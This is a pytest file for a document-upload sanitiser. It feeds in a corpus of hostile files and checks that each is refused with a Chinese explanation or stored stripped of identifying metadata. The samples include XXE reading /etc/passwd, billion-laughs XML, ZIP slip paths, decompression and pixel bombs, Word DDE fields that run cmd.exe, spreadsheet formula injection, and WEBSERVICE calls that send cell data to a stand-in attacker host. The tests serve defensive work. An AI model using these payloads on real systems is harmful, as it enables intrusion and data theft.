"""c5: a corpus of files from outside, each declared: refused with a sentence that says why and what to do, or stored harmlessly, without what it knew of its maker."""

import io
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from qingdan.engine.refusals import Refused
from qingdan.kernel.files.harmless.cleaning import clean
from qingdan.kernel.files.harmless.refusing import LIMIT, WHAT

from . import office, pdfs, pictures
from .office import field, formula, rels, sheet, word, zipped
from .pictures import MARKS, NAME, PLACE, chunk, drawing, jpeg, png, png_of, saved

EVIL = "evil.example"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]>'

REFUSED = {
    # by content
    "empty": (b"", "文件是空的"),
    "too long": (lambda: b"a" * (LIMIT + 1), "超过 20 MB"),
    "SVG": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
    "SVG behind a declaration": (b'<?xml version="1.0"?><svg/>', "SVG"),
    "HTML": (b"<!DOCTYPE html><html><script>1</script></html>", "网页"),
    "HTML without a head": (b"<body onload=alert(1)>", "网页"),
    "a script in a text": ("请看：\n<script>alert(1)</script>".encode(), "网页"),
    "MHTML": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", "邮件或者网页"),
    "XML of many laughs": (LAUGHS.encode(), "XML"),
    "a program": (b"MZ\x90\0" + b"\0" * 99, "这是程序"),
    "a program of Linux": (b"\x7fELF" + b"\0" * 99, "这是程序"),
    "old Word, or an encrypted DOCX": (OLE, "旧版"),
    "RTF": (b"{\\rtf1 \\object}", "RTF"),
    "RAR": (b"Rar!\x1a\x07\0", "压缩包"),
    "7z": (b"7z\xbc\xaf\x27\x1c\0", "压缩包"),
    "gzip": (b"\x1f\x8b\x08\0", "压缩包"),
    "HEIC": (b"\0\0\0\x18ftypheic" + b"\0" * 50, "HEIC"),
    "a film": (b"\0\0\0\x18ftypisom" + b"\0" * 50, "录像"),
    "a recording": (b"#!AMR\n", "录音"),
    "GIF": (lambda: saved(drawing(), "GIF"), "GIF"),
    "BMP": (lambda: saved(drawing(), "BMP"), "BMP"),
    "TIFF": (lambda: saved(drawing(), "TIFF"), "TIFF"),
    "bytes of no kind": (bytes(range(256)), "不是允许的类型"),
    "a NUL in a text": (b"abc\0def", "不是允许的类型"),
    # pictures
    "pixel flood, PNG": (lambda: png_of(60000, 60000), "像素太多"),
    "pixel flood, JPEG": (pictures.flood_jpeg, "像素太多"),
    "pixel flood of one bit": (lambda: png_of(39999, 39999, colour=0), "像素太多"),
    "a picture 100,000 wide": (lambda: png_of(100_000, 1), "像素太多"),
    "a PNG whose text unpacks to 200 MB": (lambda: png_of(1, 1, before=chunk(b"zTXt", b"a\0\0" + zlib.compress(b"0" * 200_000_000, 1))), "损坏"),
    "a PNG whose profile unpacks to 200 MB": (lambda: png_of(1, 1, before=chunk(b"iCCP", b"a\0\0" + zlib.compress(b"0" * 200_000_000, 1))), "损坏"),
    "a truncated JPEG": (lambda: jpeg()[:-300], "损坏"),
    "a truncated PNG": (lambda: png()[:-60], "损坏"),
    "JPEG by its first bytes only": (b"\xff\xd8\xff\xe0" + "程序".encode() * 50, "损坏"),
    "PNG by its first bytes only": (b"\x89PNG\r\n\x1a\n" + b"MZ" * 50, "损坏"),
    "WebP by its first bytes only": (b"RIFF\x99\0\0\0WEBP" + b"<?php" * 30, "损坏"),
    # archives
    "a ZIP": (lambda: zipped({"a.txt": "a"}), "压缩包"),
    "an empty ZIP": (lambda: zipped({}), "压缩包"),
    "a ZIP bomb": (lambda: word(**{"word__media__image1.png": b"\0" * 70_000_000}), "大得不合理"),
    "a ZIP of 20,000 files": (lambda: zipped([(f"a{i}", "") for i in range(20_000)]), "大得不合理"),
    "an entry that unpacks to more than it says": (office.lying, "损坏"),
    "ZIP slip": (lambda: word(**{"..__..__etc__passwd": "x"}), "指向别处的路径"),
    "ZIP slip, from the root": (lambda: word(__etc__passwd="x"), "指向别处的路径"),
    "ZIP slip, as Windows spells it": (lambda: word(**{"word\\..\\..\\a.xml": "x"}), "指向别处的路径"),
    "a NUL in a name": (lambda: office.patched(word(**{"word__aXb.xml": "x"}), b"word/aXb.xml", b"word/a\0b.xml"), "指向别处的路径"),
    "a link among the parts": (office.symlinked, "指向别处的链接"),
    "two parts of one name": (lambda: zipped([("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("WORD/document.xml", "<b/>")]), "同名"),
    "an encrypted archive": (office.encrypted, "加了密码"),
    "a truncated DOCX": (lambda: word()[:-40], "损坏"),
    "a DOCX with one byte changed": (lambda: office.patched(office.zipped({"[Content_Types].xml": "<a/>", "word/document.xml": "<abc/>"}, zipfile.ZIP_STORED), b"<abc/>", b"<abd/>"), "损坏"),
    "packed by another method": (lambda: office.zipped({"[Content_Types].xml": "<a/>", "word/document.xml": "<a/>"}, zipfile.ZIP_LZMA), "压缩方法"),
    "both Word and Excel": (lambda: word(**{"xl__workbook.xml": "<a/>"}), "不是 DOCX、XLSX"),
    # Office
    "macros": (lambda: word(**{"word__vbaProject.bin": b"x"}), "带有宏"),
    "macros by type only": (lambda: word(types='<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "带有宏"),
    "a sheet of old macros": (lambda: sheet(**{"xl__macrosheets__sheet1.xml": "<a/>"}), "带有宏"),
    "ActiveX": (lambda: word(**{"word__activeX__activeX1.bin": OLE}), "控件"),
    "an embedded program": (lambda: word(**{"word__embeddings__oleObject1.bin": OLE}), "夹带"),
    "a ZIP in a DOCX": (lambda: word(**{"word__media__a.zip": zipped({"a": "b"})}), "夹带"),
    "a web page in a DOCX": (lambda: word(**{"word__afchunk1.mht": "x"}), "夹带"),
    "a part nobody knows": (lambda: word(**{"word__evil.bin": b"x"}), "不能检查的内容"),
    "EMF": (lambda: word(**{"word__media__image1.emf": b"\1\0\0\0"}), "EMF"),
    "a text called PNG": (lambda: word(**{"word__media__image1.png": b"<script>"}), "图片已经损坏"),
    "a flood inside a DOCX": (lambda: word(**{"word__media__image1.png": png_of(60000, 60000)}), "像素太多"),
    "a picture from elsewhere": (lambda: word(**{"word/_rels/document.xml.rels": rels(("rId9", "image", f"http://{EVIL}/a.png", True))}), "引用了外部"),
    "a picture from elsewhere that does not say so": (lambda: word(**{"word/_rels/document.xml.rels": rels(("rId9", "image", f"//{EVIL}/a.png", False))}), "引用了外部"),
    "an object from elsewhere": (lambda: word(**{"word/_rels/document.xml.rels": rels(("rId9", "oleObject", f"mhtml:http://{EVIL}/a!x-usc", True))}), "引用了外部"),
    "a relation out of the file": (lambda: word(**{"word/_rels/document.xml.rels": rels(("rId9", "image", "../../../etc/passwd", False))}), "指向别处"),
    "many laughs in a DOCX": (lambda: zipped({"[Content_Types].xml": "<a/>", "word/document.xml": LAUGHS + "<a>&c;</a>"}), "DTD"),
    "a DTD from elsewhere": (lambda: word(**{"word__styles.xml": f'<!DOCTYPE a SYSTEM "http://{EVIL}/a.dtd"><a/>'}), "DTD"),
    "a file of the server in an XLSX": (lambda: sheet(**{"xl__sharedStrings.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}), "DTD"),
    "XML that is none": (lambda: word(**{"word__styles.xml": "<a><b></a>"}), "损坏"),
    "XML 10,000 deep": (lambda: word("<a>" * 10_000 + "</a>" * 10_000), "损坏"),
    "DDE in a field": (lambda: word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "域"),
    "DDE in pieces": (lambda: word(field("DD", "EAU", "TO cmd calc")), "域"),
    "LINK in pieces behind another field": (lambda: word(field("PAGE") + field("LI", "NK Excel.Sheet a")), "域"),
    "a picture by a field": (lambda: word(field(f'INCLUDEPICTURE "http://{EVIL}/a.png" \\d')), "域"),
    "an address in pieces": (lambda: word(field('HYPERLINK "ht', f'tp://{EVIL}/"')), "域"),
    "a picture by a simple field": (lambda: word('<w:fldSimple w:instr="INCLUDEPICTURE a"><w:r><w:t>x</w:t></w:r></w:fldSimple>'), "域"),
    "DDE in a cell": (lambda: formula("cmd|'/c calc'!A0"), "公式"),
    "a cell that fetches": (lambda: formula(f'_xlfn.WEBSERVICE("http://{EVIL}/"&amp;A1)'), "公式"),
    "a cell that links": (lambda: formula('HYPERLINK(A2,"看")'), "公式"),
    "a name that runs": (lambda: sheet(workbook="<definedNames><definedName name='_xlnm.Auto_Open'>EXEC(\"calc\")</definedName></definedNames>"), "公式"),
    "data from another file": (lambda: sheet(**{"xl__externalLinks__externalLink1.xml": "<a/>"}), "外部"),
    "data from a server": (lambda: sheet(**{"xl__connections.xml": "<a/>"}), "外部"),
    # PDF
    "a locked PDF": (lambda: pdfs.locked("secret"), "加了密码"),
    "a truncated PDF": (lambda: pdfs.made()[:-200], "损坏"),
    "PDF by its first bytes only": (b"%PDF-1.7\n" + b"MZ" * 100 + b"%%EOF", "损坏"),
    "a PDF without pages": (b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", "损坏"),
    "a PDF with a file hung on": (lambda: pdfs.made(pdfs.attached), "夹带"),
    "a PDF with a file hung on a page": (lambda: pdfs.made(pdfs.hung_on_a_page), "夹带"),
    "a PDF with a film": (lambda: pdfs.made(pdfs.film), "夹带"),
    "a PDF whose page lies elsewhere": (lambda: pdfs.made(pdfs.external), "外部的文件"),
    "a PDF whose page unpacks to 140 MB": (pdfs.bomb, "大得不合理"),
    "a PDF whose objects unpack to 140 MB": (pdfs.bomb_of_objects, "大得不合理"),
}
STORED = {
    # by content
    "a text": ("窗口拒不受理\r\n".encode(), "txt"),
    "a text of GB 18030": ("窗口拒不受理，生僻字𠮷".encode("gb18030"), "txt"),
    "a text of Notepad": ("窗口".encode("utf-16"), "txt"),
    "a text that begins like a picture or a program": ("BMW 车主投诉，MZ、PK".encode(), "txt"),
    "a family of emoji": ("👨‍👩‍👧".encode(), "txt"),
    "a text turned round": ("公告\u202egpj.exe\u202c\u200b".encode(), "txt"),
    "a text that a spreadsheet would run": (b"=cmd|'/c calc'!A0", "txt"),
    "emoji and 20,000 characters": (("😀字" * 10_000).encode(), "txt"),
    # pictures
    "a photo of a telephone": (pictures.photo, "jpeg"),
    "a PNG that tells much": (pictures.told_png, "png"),
    "WebP": (pictures.webp, "jpeg"),
    "WebP that one sees through": (lambda: saved(drawing(mode="RGBA"), "WEBP"), "png"),
    "a JPEG with a ZIP behind it": (lambda: jpeg() + zipped({EVIL: "x"}), "jpeg"),
    "a JPEG with a program in its comment": (lambda: jpeg(comment=f"<script>{EVIL}</script>".encode()), "jpeg"),
    "a PNG with HTML behind it": (lambda: png() + f"<html>{EVIL}</html>".encode(), "png"),
    "a JPEG for printers": (lambda: saved(drawing(mode="CMYK"), "JPEG"), "jpeg"),
    "a JPEG in several passes": (lambda: jpeg(progressive=True), "jpeg"),
    "a PNG of one bit": (lambda: saved(drawing(mode="1"), "PNG"), "png"),
    "a PNG of a palette that one sees through": (lambda: saved(drawing(mode="P"), "PNG", transparency=0), "png"),
    "a PNG that moves": (lambda: saved(drawing(), "PNG", save_all=True, append_images=[drawing()]), "png"),
    # Office
    "a DOCX": (word, "docx"),
    "a DOCX as Word writes it": (office.real_word, "docx"),
    "an XLSX": (sheet, "xlsx"),
    "an XLSX as Excel writes it": (office.told_sheet, "xlsx"),
    "a DOCX with a program behind it": (lambda: word() + b"MZ" + EVIL.encode(), "docx"),
    "a link by a relation": (lambda: word('<w:p><w:hyperlink r:id="rId9"><w:r><w:t>看</w:t></w:r></w:hyperlink></w:p>', **{"word/_rels/document.xml.rels": rels(("rId9", "hyperlink", f"http://{EVIL}/", True))}), "docx"),
    "a link by a field": (lambda: word(field(f' HYPERLINK "http://{EVIL}/" ')), "docx"),
    "a table of contents": (lambda: word(field('TOC \\o "1-3" \\h') + field(' HYPERLINK \\l "_Toc1" ') + field('TIME \\@ "HH:mm"')), "docx"),
    "changes that bear names": (lambda: word(f'<w:p><w:ins w:id="1" w:author="{NAME}" w:date="2016-06-13T09:00:00Z"><w:r w:rsidR="00AB12CD"><w:t>看</w:t></w:r></w:ins></w:p>'), "docx"),
    "the same under other prefixes": (lambda: word(f'<q:ins xmlns:q="urn:q" q:author="{NAME}" q:date="{PLACE}"/>'), "docx"),
    "a word on the screen that is an entity": (lambda: word("<w:p><w:r><w:t>&lt;b&gt; &amp;amp; &quot;</w:t></w:r></w:p>"), "docx"),
    "a sum": (lambda: formula('SUM(A2:A9)&amp;"|"'), "xlsx"),
    "a part called by a CJK name of 255 bytes": (lambda: word(**{f"docProps__{'长' * 80}.xml": "x"}), "docx"),
    # PDF
    "a PDF": (pdfs.made, "pdf"),
    "a PDF that tells much": (lambda: pdfs.made(pdfs.told), "pdf"),
    "a PDF with JavaScript": (lambda: pdfs.made(pdfs.scripts), "pdf"),
    "a PDF that leads out": (lambda: pdfs.made(pdfs.outward), "pdf"),
    "a PDF whose page passes for a font": (lambda: pdfs.made(pdfs.disguised), "pdf"),
    "a PDF with a form": (lambda: pdfs.made(pdfs.form), "pdf"),
    "a signed PDF": (lambda: pdfs.made(pdfs.signed), "pdf"),
    "a PDF that may not be printed": (pdfs.locked, "pdf"),
    "a PDF that may not be printed, of 2001": (lambda: pdfs.locked(R=3), "pdf"),
    "a PDF that may not be printed, of 2006": (lambda: pdfs.locked(R=4), "pdf"),
    "a PDF revised": (pdfs.revised, "pdf"),
    "a PDF with a ZIP behind it": (lambda: pdfs.made() + zipped({EVIL: "x"}) + b"%%EOF", "pdf"),
}
WITNESSES = (*MARKS, EVIL, "JavaScript", "app.launchURL", "2016-06-13T09", "00AB12CD", "Apple")
MUST_TELL = {"a photo of a telephone", "a PNG that tells much", "WebP", "a DOCX as Word writes it", "an XLSX as Excel writes it", "a PDF that tells much",
             "a PDF with JavaScript", "a PDF that leads out", "a link by a relation", "a link by a field", "changes that bear names", "a PDF revised", "a signed PDF",
             "a JPEG with a ZIP behind it", "a JPEG with a program in its comment", "a PNG with HTML behind it", "a DOCX with a program behind it",
             "the same under other prefixes", "a PDF whose page passes for a font"}  # fmt: skip


def bytes_of(given):
    return given() if callable(given) else given


def deep(data):
    """All bytes that somebody who takes the file apart would find."""
    yield data
    if data[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                yield name.encode()
                yield from deep(archive.read(name))
    elif data[:5] == b"%PDF-":
        with pikepdf.open(io.BytesIO(data)) as pdf:
            for found in pdf.objects:
                yield found.unparse(resolved=True)
                yield from (word for word in texts_of(found))
                if isinstance(found, pikepdf.Stream):
                    yield found.read_raw_bytes()
    elif data[:4] == b"\x89PNG":
        with Image.open(io.BytesIO(data)) as picture:
            yield str(picture.info).encode()


def texts_of(found):
    """The texts of a PDF object as people read them."""
    if isinstance(found, pikepdf.String):
        yield str(found).encode()
    elif isinstance(found, pikepdf.Array):
        for o in found:
            if not getattr(o, "is_indirect", False):
                yield from texts_of(o)
    elif isinstance(found, (pikepdf.Dictionary, pikepdf.Stream)):
        for key in found.keys():
            if not getattr(found.get(key), "is_indirect", False):
                yield from texts_of(found.get(key))


def witnesses(data):
    layers = list(deep(data))
    return {w for w in WITNESSES for form in (w.encode(), w.encode("utf-16-le"), w.encode("utf-16-be"), w.encode("gb18030")) if any(form in layer for layer in layers)}


@pytest.mark.parametrize("name", REFUSED)
def test_c5_refused_with_a_sentence(name):
    data, why = REFUSED[name]
    with pytest.raises(Refused) as refused:
        clean(bytes_of(data))
    assert refused.value.what == WHAT and why in refused.value.why and refused.value.todo
    assert refused.value.__suppress_context__ or refused.value.__context__ is None, "no decoder's word about the file hangs on it"


@pytest.mark.parametrize("name", STORED)
def test_c5_stored_harmlessly(name):
    data, kind = STORED[name]
    found = clean(bytes_of(data))
    assert found.kind == kind and found.data
    assert witnesses(found.data) == set()
    again = clean(found.data)
    assert again.kind == kind, "what was made harmless is taken again"


@pytest.mark.parametrize("name", sorted(MUST_TELL))
def test_the_search_finds_what_the_files_tell_before(name):
    assert witnesses(bytes_of(STORED[name][0])), "alive: this file gives somebody away as it comes in"


def test_c5_has_more_than_sixty_files():
    assert len(REFUSED) + len(STORED) >= 120 and not set(REFUSED) & set(STORED)
    assert set(MUST_TELL) <= set(STORED)
